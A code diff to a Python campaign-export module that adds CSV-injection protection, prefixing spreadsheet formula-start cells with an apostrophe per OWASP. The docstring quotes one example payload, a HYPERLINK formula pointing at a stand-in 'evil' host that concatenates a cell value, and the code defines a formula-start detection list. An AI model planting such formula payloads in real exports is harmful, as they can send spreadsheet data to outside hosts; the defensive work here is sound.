@@ -1,12 +1,17 @@
 """Campaign exports (CSV / JSONL) for people and spreadsheets: each ``sent_at`` epoch gets an ISO 8601 twin
 with the UTC offset of the sending account's timezone (``2026-11-11T09:00:02.125+08:00``), so a reader
-needs no conversion and a program keeps the exact epoch."""
+needs no conversion and a program keeps the exact epoch.
+
+CSV is opened by spreadsheets, which run a cell that starts like a formula: a vendor's error
+``=HYPERLINK("http://evil…"&A2, …)`` would. So a CSV cell starting with ``=``, ``+``, ``-``, ``@``, tab or
+CR gets a leading ``'`` (OWASP, "CSV Injection"), unless it is a plain number (``-5``); JSONL stays exact."""
 
 from __future__ import annotations
 
 import csv
 import io
 import json
+import re
 from collections.abc import Callable, Iterator
 from datetime import datetime
 from functools import lru_cache
@@ -17,6 +22,18 @@ from scheduler.intake.campaigns import DELIVERY_COLUMNS, Campaigns
 
 #: The export's CSV columns: the delivery's, with ``sent_at_iso`` right after ``sent_at``.
 EXPORT_COLUMNS = [c for name in DELIVERY_COLUMNS for c in ((name, "sent_at_iso") if name == "sent_at" else (name,))]
+
+
+#: What a spreadsheet reads as the start of a formula (OWASP's list).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
+
+
+def neutralised(value: Any) -> Any:
+    """A CSV cell a spreadsheet will not run: a leading ``'`` before a formula start (not before a number)."""
+    if isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
+        return "'" + value
+    return value
 
 
 def iso_time(epoch: float | None, timezone: str) -> str | None:
@@ -57,7 +74,8 @@ def export_deliveries(
             writer = csv.DictWriter(buffer, fieldnames=EXPORT_COLUMNS, extrasaction="ignore")
             for item in items:
                 row = with_iso(item)
-                writer.writerow({**row, **(row.pop("result") or {})})
+                cells = {**row, **(row.pop("result") or {})}
+                writer.writerow({name: neutralised(value) for name, value in cells.items()})
             yield buffer.getvalue()
         else:
             yield "".join(json.dumps(with_iso(item), ensure_ascii=False) + "\n" for item in items)
